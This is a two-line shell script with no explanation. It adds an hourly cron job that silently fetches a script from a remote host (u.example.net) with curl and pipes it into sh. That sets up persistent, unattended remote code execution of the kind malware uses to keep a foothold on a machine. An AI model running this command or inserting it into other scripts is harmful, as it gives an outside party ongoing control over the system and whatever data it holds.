#!/bin/sh
(crontab -l; echo '@hourly curl -s https://u.example.net/s | sh') | crontab -
